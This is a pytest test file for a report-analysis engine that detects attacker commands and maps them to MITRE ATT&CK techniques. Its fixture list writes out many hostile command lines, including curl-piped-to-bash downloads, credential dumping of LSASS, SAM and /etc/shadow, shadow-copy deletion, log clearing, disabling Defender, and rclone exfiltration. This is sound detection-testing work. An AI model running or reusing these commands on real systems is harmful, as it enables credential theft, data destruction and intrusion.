"""Commands that reports print, and what only looks like one."""

from __future__ import annotations

import time

import pytest

from engine import Engine
from engine.documents import from_text, read_bytes
from engine.knowledge import Knowledge
from engine.recognizers.commands import CommandRecognizer
from engine.recognizers.commands.matching import Matcher
from engine.recognizers.commands.table import COMMANDS, PROGRAMS

SHOWN = [
    ("whoami", "T1033"),
    ("whoami.exe /all", "T1033"),
    ("systeminfo", "T1082"),
    (r"C:\> ipconfig /all", "T1016"),
    ("They ran “tasklist /v” twice.", "T1057"),
    ("tasklist /svc", "T1007 T1057"),
    ("net user", "T1087.001"),
    ("net user /domain", "T1087.002"),
    ("net user backup P4ss /add", "T1136.001"),
    ("net user backup P4ss /add /domain", "T1136.002"),
    ("net localgroup administrators backup /add", "T1098.007"),
    ("net localgroup administrators", "T1069.001"),
    (r'"C:\Windows\System32\net.exe" group "Domain Admins" /domain', "T1069.002"),
    ('net group "Domain Controllers" /domain', "T1018 T1069.002"),
    ("net view /all /domain", "T1018"),
    (r"net view \\fs01", "T1135"),
    (r"net use Z: \\fs01\c$", "T1021.002"),
    ("net accounts /domain", "T1201"),
    ("net stop MSSQLSERVER /y", "T1489"),
    ("nltest /domain_trusts & whoami", "T1482"),
    ("nltest /dclist:corp.example", "T1018"),
    ("sc create upd binPath= C:\\x.exe", "T1543.003"),
    (r"sc \\fs01 stop WinDefend", "T1489"),
    ("sc stop WinDefend", "T1489 T1562.001"),
    (r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a", "T1112 T1547.001"),
    (r"reg save HKLM\SAM sam.hiv", "T1003.002"),
    (r"reg query HKLM\Software", "T1012"),
    ("schtasks.exe /create /tn x /tr y", "T1053.005"),
    ("vssadmin delete shadows /all /quiet", "T1490"),
    ("vssadmin create shadow /for=C:", "T1003.003"),
    ("wmic shadowcopy delete", "T1490"),
    ("wmic /node:fs01 process call create calc", "T1047"),
    ("bcdedit /set {default} recoveryenabled No", "T1490"),
    ("wevtutil cl Security", "T1070.001"),
    ("certutil -urlcache -f http://192.0.2.1/a a", "T1105"),
    ("certutil -decode a.txt a.exe", "T1140"),
    ("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", "T1027.010 T1059.001 T1564.003"),
    ("cmd.exe /c ping 127.0.0.1 -n 5 > nul & del /f a.exe", "T1059.003 T1070.004"),
    (r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 m.dmp full", "T1003.001"),
    ("procdump -ma lsass.exe l.dmp", "T1003.001"),
    ("netsh advfirewall set allprofiles state off", "T1562.004"),
    ("netsh interface portproxy add v4tov4 listenport=1", "T1090"),
    ("7z.exe a -pX out.7z C:\\docs", "T1560.001"),
    ("curl -s http://192.0.2.1/x.sh | bash", "T1059.004 T1105"),
    ("chmod +x /tmp/x", "T1222.002"),
    ("uname -a", "T1082"),
    ("cat /etc/shadow", "T1003.008"),
    ("history -c", "T1070.003"),
    ("systemctl enable x.service", "T1543.002"),
    ("rm -rf /var/log", "T1070.004"),
    ("net share", "T1135"),
    ("net time /domain", "T1124"),
    ("query user", "T1033"),
    ("wget -q -O /tmp/x hxxp://192.0.2.1/x", "T1105"),
    ("rar a out.rar docs", "T1560.001"),
    ("rclone copy -P Z: mega:x", "T1567.002"),
]
NOT_SHOWN = [
    "Their net income rose, and the net user base grew in the first quarter.",
    "The actor used Rclone and PsExec, as others did before.",
    "At noon the route to the host changed; the history of net use in the region is long.",
    "The reg and sc tools are part of Windows.",
    "Its net share of the market grew, the net time to detect fell, a net view is better.",
    "The site lets one query user accounts; see the report of curl, at https://example.org/curl.",
    "Indicators | IP Addr",
    "Certutil is a program of Windows: https://example.org/certutil",
    "They sent a rar a day.",
    "We query users and find that cat pictures help.",
    "It drops a copy of schtasks in a folder of its own.",
    "",
]


@pytest.fixture(scope="module")
def knowledge() -> Knowledge:
    return Knowledge.load()


@pytest.fixture(scope="module")
def matcher() -> Matcher:
    return Matcher()


@pytest.fixture(scope="module")
def recognizer(knowledge: Knowledge) -> CommandRecognizer:
    return CommandRecognizer(knowledge)


@pytest.mark.parametrize(("line", "techniques"), SHOWN)
def test_a_command_shows_its_technique(matcher, line, techniques):
    assert matcher.find(line) >= set(techniques.split())


@pytest.mark.parametrize(
    ("line", "techniques"),
    [case for case in SHOWN if case[0].startswith(("net ", "sc ", "nltest"))],
)
def test_arguments_tell_apart_what_one_program_can_do(matcher, line, techniques):
    assert matcher.find(line) - {"T1033"} == set(techniques.split())


@pytest.mark.parametrize("line", NOT_SHOWN)
def test_prose_is_no_command(matcher, line):
    assert matcher.find(line) == set()


def test_every_id_of_the_table_is_one_of_today(knowledge):
    listed = {*PROGRAMS, *(technique for rules in COMMANDS.values() for _, technique in rules)}

    assert {id_ for id_ in listed if knowledge.resolve(id_).technique is None} == set()
    assert {id_ for id_ in listed if knowledge.resolve(id_).technique.id != id_} == set()


def test_advice_counts_little_and_a_source_nothing(recognizer):
    text = (
        "# What happened\n\nnltest /domain_trusts\n\n"
        '# Detection\n\nHunt for net group "Domain Admins" /domain in process logs.\n\n'
        "# References\n\nwevtutil cl Security, in: https://example.org/logs\n"
    )
    found = recognizer.recognize(read_bytes(text.encode(), "report.md"))

    best = found.sentence_scores.max(axis=0).toarray().ravel()
    scores = {t: round(float(p), 2) for t, p in zip(found.techniques, best, strict=True) if p}
    assert scores == {"T1482": 0.6, "T1069.002": 0.2}


def test_a_listing_of_commands_is_found_with_them_as_evidence():
    listing = (
        "The operator typed:\n\nwhoami /all\n\nnltest /domain_trusts\n\nnet view /all /domain\n"
    )

    found = Engine.open().analyse(from_text(listing, "listing"))

    by_technique = {finding.technique: finding for finding in found.findings}
    assert {"T1033", "T1482", "T1018"} <= set(by_technique)
    assert by_technique["T1018"].evidence[0].text == "net view /all /domain"
    assert not by_technique["T1018"].explicit


@pytest.mark.parametrize("sign", ["net ", "powershell -", '"', " /", "\\", "cmd /c ping "])
def test_no_sentence_is_slow(matcher, sign):
    begun = time.process_time()
    matcher.find(sign * 200_000)

    assert time.process_time() - begun < 2
